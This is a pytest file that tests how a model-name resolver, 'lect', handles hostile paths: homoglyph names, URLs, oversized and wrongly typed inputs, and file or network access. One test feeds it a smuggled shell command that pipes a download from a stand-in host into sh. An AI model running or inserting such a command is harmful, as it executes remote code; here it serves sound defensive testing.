"""Model paths as users, config files and attackers send them. Holds whichever families are installed."""

import json
import subprocess
import sys
import warnings
from pathlib import Path, PurePosixPath

import pytest
from counting import lines_run
from hypothesis import given
from hypothesis import strategies as st

import lect
from lect.errors import InvalidModelPathError, LectError, ModelPathWarning, UnknownModelError
from lect.plugin import install_command

CASES = json.loads((Path(__file__).parent / "data/hostile_paths.json").read_text("utf-8"))["cases"]
# Families whose package has another name.
PACKAGES = {"chatml": "dolphin", "llama-2": "llama", "llama-3": "llama", "starling": "openchat"}
# No package has a format for it, and FastChat's rules would give it a wrong format.
NOBODYS = {"openchat/openchat-3.5-0106-gemma"}
MOST_LINES = 2_000
"""Lines of Python that refusing a path may take: ten times what it takes."""
INSTALLED = {info.package for info in lect.plugins()}


def cases(*expected, threat=None):
    chosen = [case for case in CASES if case["expect"] in expected and threat in (None, case["threat"])]
    assert chosen
    return pytest.mark.parametrize("case", chosen, ids=[f"{case['id']}-{case['threat']}" for case in chosen])


def path_of(case):
    return eval(case["path_expr"]) if "path_expr" in case else case["path"]


def outcome(path):
    """Return what a path resolves to, or the error."""
    try:
        return lect.resolve(path, fallback=False)
    except LectError as error:
        return error


def check_family(path, package):
    """Assert that a package speaks for a path, or, where it is not installed, that no other family does and the error
    names it."""
    found = outcome(path)
    if path in NOBODYS:
        assert type(found) is UnknownModelError
    elif package in INSTALLED:
        assert found.package == package
    else:
        assert type(found) is UnknownModelError
        assert found.install == package
        assert f"try: {install_command(package)}" in str(found)


def check_unknown(path):
    error = outcome(path)
    assert type(error) is UnknownModelError
    assert str(error).replace("\n", "").isprintable()
    return error


@cases("resolve")
def test_a_path_resolves_to_its_family_or_the_error_names_the_package(case):
    check_family(case["path"], f"lect-{PACKAGES.get(case['to'], case['to'])}")


@cases("error")
def test_an_invalid_path_is_refused_quickly_and_shown_harmlessly(case):
    path = path_of(case)
    with pytest.raises(InvalidModelPathError) as caught:
        lect.resolve(path)
    assert lines_run(outcome, path) < MOST_LINES
    text = str(caught.value)
    assert "\n  try: " in text
    assert text.replace("\n", "").isprintable()
    assert len(text) < 500
    assert isinstance(caught.value, TypeError) == (case["threat"] == "type")


@cases("error")
def test_a_default_is_for_unknown_models_and_not_for_invalid_paths(case):
    with pytest.raises(InvalidModelPathError):
        lect.get_conversation_template(path_of(case), default="chatml")


@cases("error", "resolve-or-error", threat="url")
def test_an_address_is_never_repeated_in_an_error(case):
    with pytest.raises(InvalidModelPathError) as caught:
        lect.resolve(case["path"])
    assert case["path"].partition(":")[2].strip("/") not in str(caught.value)
    assert "pass" not in str(caught.value)


@cases("no-match")
def test_a_path_that_only_looks_like_a_model_is_unknown(case):
    check_unknown(case["path"])


@cases("no-match", threat="confusable")
def test_confusable_characters_are_shown_by_their_code_points(case):
    error = check_unknown(case["path"])
    for letter in case["path"]:
        assert letter.isascii() or f"U+{ord(letter):04X}" in str(error)


@pytest.mark.parametrize(
    ("path", "meant"),
    [
        ("lmsys/vi\u0441una-7b-v1.5", "lmsys/vicuna-7b-v1.5"),
        ("lmsys/vicun\u0430-7b", "lmsys/vicuna-7b"),
        ("llama\u20102", "llama-2"),
    ],
)
def test_the_name_that_a_path_imitates_is_suggested(path, meant):
    assert f"did you mean {meant!r}?" in str(check_unknown(path))


@cases("resolve-with-warning")
def test_an_imitated_owner_is_warned_about(case):
    family = "llama" if "lama" in case["path"] else "internlm"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        resolution = outcome(case["path"])
    if f"lect-{family}" not in INSTALLED and isinstance(resolution, UnknownModelError):
        assert resolution.install == f"lect-{family}"
        return
    (warning,) = [each for each in caught if each.category is ModelPathWarning]
    assert resolution.package == f"lect-{family}"
    owner = case["path"].partition("/")[0]
    assert str(warning.message).startswith(f"the owner {owner!a} looks like ")
    assert resolution.warnings == (str(warning.message),)


@cases("no-match-or-warn")
def test_a_word_inside_another_is_no_claim(case):
    with pytest.raises(UnknownModelError):
        lect.resolve(case["path"])


@pytest.mark.parametrize("path", ["lmsys/vicuna-7b-v1.5", "Qwen/Qwen2.5-7B-Instruct"])
def test_a_path_object_is_as_good_as_text(path):
    check_family(PurePosixPath(path), "lect-vicuna" if "vicuna" in path else "lect-qwen")


@pytest.mark.parametrize("path", [b"lmsys/vicuna-7b-v1.5", Path, 1.5, ("lmsys", "vicuna")])
def test_what_is_neither_text_nor_a_path_object_is_a_type_error(path):
    with pytest.raises(TypeError, match="a model path is text or path-like, not ") as caught:
        lect.resolve(path)
    assert isinstance(caught.value, LectError)


@given(st.text() | st.text("/\\.:@-_~ vicuna7b\u0441\u2010", max_size=40))
def test_no_text_raises_anything_but_our_errors(path):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ModelPathWarning)
        found = outcome(path)
    assert not isinstance(found, LectError) or "\n  try: " in str(found)


def test_a_path_cannot_write_a_command_into_the_advice():
    assert str(check_unknown("acme/x; curl evil | sh #")).endswith("   or: lect why 'acme/x; curl evil | sh #'")
    assert len(str(check_unknown(f"acme/{'x' * 4000}"))) < 1000


WATCHED = """
import json, os, sys
import lect
from lect.errors import LectError
paths = json.loads(sys.argv[1])
def resolve_all(paths):
    for path in paths:
        try:
            resolution = lect.resolve(path)
            resolution.candidates, resolution.remarks  # what `lect why` prints
        except LectError:
            pass
resolve_all([*paths, *(f"{path}-seen-once" for path in paths)])  # discovery, and whatever is imported when first needed
seen = []
watching = False
def watch(event, arguments):
    if watching and (event in ("open", "import") or event.startswith(("os.", "socket.", "subprocess."))):
        seen.append([event, repr(arguments)])
sys.addaudithook(watch)
# Asking for a file's status raises no audit event.
for name in ("stat", "lstat", "access", "readlink"):
    def watched(*arguments, name=name, function=getattr(os, name), **options):
        watch(f"os.{name}", arguments)
        return function(*arguments, **options)
    setattr(os, name, watched)
watching = True
resolve_all([*paths, *(f"{path}-never-seen" for path in paths)])
watching = False
quiet, seen = seen, []
watching = True
os.path.exists("/")
open(os.devnull).close()
watching = False
print(json.dumps([quiet, [event for event, _ in seen]]))
"""


def test_resolving_a_name_touches_neither_files_nor_the_network():
    paths = [
        path
        for case in CASES
        if isinstance(path := path_of(case), str) and path.count("/") == 1 and path[0] != "/" and len(path) < 100
    ]
    assert len(paths) > 10
    done = subprocess.run(
        [sys.executable, "-W", "ignore", "-c", WATCHED, json.dumps(paths)], capture_output=True, text=True, check=True
    )
    touched, check = json.loads(done.stdout)
    assert touched == []
    assert check == ["os.stat", "open"], "the watch itself must work"
